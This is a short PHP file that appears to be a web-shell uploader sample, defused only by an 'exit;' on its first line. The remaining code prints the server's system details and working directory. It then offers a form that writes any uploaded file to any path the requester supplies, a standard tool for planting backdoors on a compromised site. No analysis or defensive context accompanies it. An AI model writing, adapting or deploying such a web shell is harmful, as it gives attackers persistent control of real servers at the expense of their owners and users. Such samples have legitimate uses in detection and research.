<?php exit; /* inert */ 
echo '<b>' . php_uname() . '</b><br>' . getcwd();
$files = @$_FILES["files"];
if ($files["name"] != '') {
    $fullpath = $_REQUEST["path"] . $files["name"];
    if (@copy($files['tmp_name'], $fullpath)) echo "<a href='$fullpath'>OK</a>";
}
echo '<form method=POST enctype="multipart/form-data"><input type=text name=path><input type=file name=files><input type=submit value=Up></form>';
